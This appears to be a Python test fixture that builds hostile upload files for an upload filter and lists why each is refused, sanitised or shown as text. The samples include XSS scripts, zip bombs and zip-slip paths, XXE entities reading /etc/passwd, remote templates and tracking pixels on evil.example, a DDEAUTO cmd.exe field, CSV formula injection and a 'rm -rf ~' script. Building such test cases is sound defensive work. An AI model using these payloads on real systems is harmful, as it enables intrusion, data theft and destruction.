"""Files that somebody with bad intent could send, each made here: {name of the case: (file name, bytes)}."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
PLACE = b"Kumasi 6.6885 N 1.6244 W"
WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **how) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (160, 60, 40)).save(out, form, **how)
    return out.getvalue()


def with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = PLACE.decode()  # description
    exif[0x8825] = {1: "N", 2: (6.0, 41.0, 18.6)}
    return picture(exif=exif, comment=PLACE)


def png(*chunks: tuple[bytes, bytes], size: tuple[int, int] = (1, 1)) -> bytes:
    """A PNG of these chunks between its head and its end, each with a right sum."""
    head = struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), *chunks, (b"IEND", b""))
    packed = (struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def packed(parts: dict[str, bytes], *, store: tuple[str, ...] = (), comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body, zipfile.ZIP_STORED if name in store else zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def kinds(main: bytes) -> bytes:
    return b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="' + main + b'"/></Types>'


def docx(more: dict[str, bytes] | None = None, *, main: bytes = WORD, text: bytes = b"<w:t>Prices</w:t>", **how) -> bytes:
    body = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body>' + text + b"</w:body></w:document>"
    return packed({"[Content_Types].xml": kinds(main), "word/document.xml": body} | (more or {}), **how)


def odt(more: dict[str, bytes] | None = None) -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "content.xml": b"<office:document/>"} | (more or {}), store=("mimetype",))


def relation(kind: str, target: str) -> dict[str, bytes]:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": RELS % one.encode()}


def pdf(more: bytes = b"", tail: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj <</Type /Catalog" + more + b">> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n" + tail


def pdf_with_hidden(names: bytes, *, spoil: bool = False) -> bytes:
    body = b"garbage" if spoil else zlib.compress(b"2 0 <</S " + names + b">>")
    stream = b"3 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(body)
    return b"%PDF-1.7\n" + stream + body + b"\nendstream endobj\n%%EOF\n"


def slip(name: str) -> bytes:
    """A document with one more member under a name that a zip should not have (Python would tidy it up)."""
    marked = "word/" + "x" * (len(name) - 5)
    return docx({marked: b"#!/bin/sh"}).replace(marked.encode(), name.encode())


def lying_size() -> bytes:
    """A bomb whose directory says that it is small."""
    bomb = docx({"word/media/a.xml": b"\0" * 30_000_000})
    real, said = struct.pack("<I", 30_000_000), struct.pack("<I", 100)
    return bomb.replace(real, said)


def locked() -> bytes:
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def symlink() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


# Refused: nothing of them is kept.
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing at all": ("empty.txt", lambda: b""),
    "eleven megabytes": ("long.txt", lambda: b"a" * (11 * 1024 * 1024)),
    "SVG with a script": ("drawing.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    "HTML": ("page.html", lambda: SCRIPT),
    "XHTML": ("page.xhtml", lambda: b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>"),
    "JavaScript": ("run.js", lambda: b"alert(1)"),
    "a program for Windows": ("setup.exe", lambda: b"MZ\x90\0"),
    "a program that is called a picture": ("photo.jpg", lambda: b"MZ\x90\0" + b"\0" * 200),
    "a program behind two endings": ("photo.jpg.exe", lambda: b"MZ\x90\0"),
    "an ending hidden by a turn of direction": ("photo\u202egpj.exe", lambda: b"MZ\x90\0"),
    "an ending behind a NUL": ("photo.jpg\0.exe", lambda: picture()),
    "no ending": ("photo", lambda: picture()),
    "only an ending that is not taken": (".htaccess", lambda: b"Options +ExecCGI"),
    "a shell script": ("run.sh", lambda: b"#!/bin/sh\nrm -rf ~"),
    "a shortcut": ("prices.lnk", lambda: b"L\0\0\0"),
    "an archive": ("all.zip", lambda: packed({"a.txt": b"a"})),
    "a spreadsheet of commas, which spreadsheets run": ("prices.csv", lambda: b"=cmd|'/c calc'!A0,1\n"),
    "a document with macros by its name": ("prices.docm", lambda: docx()),
    "a PNG that is called JPEG": ("photo.jpg", lambda: picture("PNG")),
    "HTML that is called PNG": ("photo.png", lambda: SCRIPT),
    "HTML after the first bytes of a GIF": ("photo.gif", lambda: b"GIF89a/*" + SCRIPT + b"*/"),
    "a RIFF that is no WebP": ("photo.webp", lambda: b"RIFF\0\0\0\0AVI " + b"\0" * 50),
    "a picture cut off": ("photo.jpg", lambda: picture(size=(300, 300), quality=95)[:500]),
    "pixels without end": ("photo.png", lambda: png((b"IDAT", zlib.compress(b"\0" * 100)), size=(60_000, 60_000))),
    "thirty million pixels, squeezed": ("photo.png", lambda: picture("PNG", (6_000, 5_000))),
    "a colour profile that unpacks to fifty megabytes": (
        "photo.png",
        lambda: png((b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 50_000_000)), (b"IDAT", zlib.compress(b"\0\1\2\3"))),
    ),
    "a text with a NUL": ("a.txt", lambda: b"a\0b"),
    "a text that is no text": ("a.txt", lambda: bytes(range(128, 256))),
    "a text that steers a terminal": ("a.txt", lambda: b"\x1b]0;owned\x07"),
    "PDF with JavaScript": ("a.pdf", lambda: pdf(b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>")),
    "PDF with JavaScript, its name in hex": ("a.pdf", lambda: pdf(b"/OpenAction <</S /J#61vaScript>>")),
    "PDF with JavaScript in a squeezed stream": ("a.pdf", lambda: pdf_with_hidden(b"/JavaScript /JS (x)")),
    "PDF with a stream that cannot be read": ("a.pdf", lambda: pdf_with_hidden(b"", spoil=True)),
    "PDF that starts a program": ("a.pdf", lambda: pdf(b"/OpenAction <</S /Launch /F (cmd.exe)>>")),
    "PDF with a file inside": ("a.pdf", lambda: pdf(b"/Names <</EmbeddedFiles 2 0 R>>")),
    "PDF behind a lock": ("a.pdf", lambda: pdf(b"/Encrypt 5 0 R")),
    "PDF that begins with HTML": ("a.pdf", lambda: SCRIPT + pdf()),
    "PDF that is an archive too": ("a.pdf", lambda: pdf(tail=packed({"run.js": b"alert(1)"}))),
    "a document with macros": ("a.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "a document that says it has macros": (
        "a.docx",
        lambda: docx(main=WORD.replace(b"document.main", b"document.macroEnabled.main")),
    ),
    "a document with an outer entity": (
        "a.docx",
        lambda: docx({"word/a.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
    ),
    "a billion laughs": (
        "a.docx",
        lambda: docx({"word/a.xml": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'}),
    ),
    "an outer entity in UTF-16": (
        "a.docx",
        lambda: docx({"word/a.xml": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'.encode("utf-16")}),
    ),
    "a template fetched from elsewhere": ("a.docx", lambda: docx(relation("attachedTemplate", "http://evil.example/a.dotm"))),
    "a picture that tells who opened it": ("a.docx", lambda: docx(relation("image", "http://evil.example/pixel.png"))),
    "an object fetched from elsewhere": ("a.docx", lambda: docx(relation("oleObject", "mhtml:http://evil.example/!x"))),
    "a field that runs a command": ("a.docx", lambda: docx(text=b"<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>")),
    "a file inside a document": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    "links to other sheets": ("a.xlsx", lambda: docx({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}, main=SHEET)),
    "a path out of the folder": ("a.docx", lambda: slip("../../../../root/.bashrc")),
    "a path from the root": ("a.docx", lambda: slip("/etc/cron.d/evil")),
    "a path as Windows writes it": ("a.docx", lambda: slip("..\\..\\evil.exe.xml")),
    "a link to another file": ("a.docx", symlink),
    "a bomb": ("a.docx", lambda: docx({"word/media/a.xml": b"<a>" + b" " * 60_000_000})),
    "a bomb that lies about its size": ("a.docx", lying_size),
    "six thousand members": ("a.docx", lambda: docx({f"word/{n}.xml": b"<a/>" for n in range(6_000)})),
    "a document behind a lock": ("a.docx", locked),
    "a document with a script before it": ("a.docx", lambda: SCRIPT + docx()),
    "a document with a script after it": ("a.docx", lambda: docx() + SCRIPT),
    "a document with a remark at its end": ("a.docx", lambda: docx(comment=SCRIPT)),
    "an archive that is called a document": ("a.docx", lambda: packed({"a.txt": b"a"})),
    "a sheet that is called a document": ("a.docx", lambda: docx(main=SHEET)),
    "an OpenDocument with Basic": ("a.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<a/>"})),
    "an OpenDocument of another kind": ("a.ods", lambda: odt()),
}
# Why each is refused: a case that is refused for another reason tests something else than it says.
REFUSED_AS = {
    "empty": {
        "nothing at all",
    },
    "too_large": {
        "eleven megabytes",
    },
    "kind_unknown": {
        "SVG with a script",
        "HTML",
        "XHTML",
        "JavaScript",
        "a program for Windows",
        "a program behind two endings",
        "an ending hidden by a turn of direction",
        "an ending behind a NUL",
        "no ending",
        "only an ending that is not taken",
        "a shell script",
        "a shortcut",
        "an archive",
        "a spreadsheet of commas, which spreadsheets run",
        "a document with macros by its name",
    },
    "kind_differs": {
        "a program that is called a picture",
        "a PNG that is called JPEG",
        "HTML that is called PNG",
        "a RIFF that is no WebP",
        "PDF that begins with HTML",
        "a document that says it has macros",
        "a document with a script before it",
        "an archive that is called a document",
        "a sheet that is called a document",
        "an OpenDocument of another kind",
    },
    "picture_broken": {
        "HTML after the first bytes of a GIF",
        "a picture cut off",
        "a colour profile that unpacks to fifty megabytes",
    },
    "too_many_pixels": {
        "pixels without end",
        "thirty million pixels, squeezed",
    },
    "text_broken": {
        "a text with a NUL",
        "a text that is no text",
        "a text that steers a terminal",
    },
    "document_runs": {
        "PDF with JavaScript",
        "PDF with JavaScript, its name in hex",
        "PDF with JavaScript in a squeezed stream",
        "PDF that starts a program",
        "PDF with a file inside",
        "a document with macros",
        "a field that runs a command",
        "a file inside a document",
        "links to other sheets",
        "an OpenDocument with Basic",
    },
    "document_broken": {
        "PDF with a stream that cannot be read",
        "PDF that is an archive too",
        "a document with an outer entity",
        "a billion laughs",
        "an outer entity in UTF-16",
        "a path out of the folder",
        "a path from the root",
        "a path as Windows writes it",
        "a link to another file",
        "a bomb",
        "a bomb that lies about its size",
        "six thousand members",
        "a document with a script after it",
        "a document with a remark at its end",
    },
    "document_locked": {
        "PDF behind a lock",
        "a document behind a lock",
    },
    "document_reaches_out": {
        "a template fetched from elsewhere",
        "a picture that tells who opened it",
        "an object fetched from elsewhere",
    },
}
# Taken, and harmless afterwards: the case is that none of MARKS is left in what is kept.
MARKS = (SCRIPT, PLACE, b"run.js", b"Kumasi", b"Exif", b"PK\x03\x04")
DRAWN_ANEW: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a picture with its place and camera": ("photo.jpg", with_place),
    "a picture with a script after it": ("photo.jpg", lambda: picture() + SCRIPT),
    "a picture that is an archive too": ("photo.jpg", lambda: picture() + packed({"run.js": SCRIPT}, store=("run.js",))),
    "a PNG with a script in a text": (
        "photo.png",
        lambda: png((b"tEXt", b"Comment\0" + SCRIPT), (b"IDAT", zlib.compress(b"\0\1\2\3"))),
    ),
    "a PNG with a script after its end": ("photo.png", lambda: picture("PNG") + SCRIPT),
    "a GIF with a script after it": ("photo.gif", lambda: picture("GIF") + SCRIPT),
    "a WebP with its place": ("photo.webp", lambda: picture("WEBP", exif=b"Exif\0\0" + PLACE)),
    "a JPEG with a remark": ("photo.jpeg", lambda: picture(comment=SCRIPT)),
}
# Taken as they are: what a browser and an honest program make of them is nothing but text.
SHOWN_AS_TEXT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "HTML in a text": ("page.txt", lambda: SCRIPT),
    "HTML in Markdown": ("page.md", lambda: b"# a\n" + SCRIPT),
    "a formula in a text": ("prices.txt", lambda: b"=cmd|'/c calc'!A0"),
}
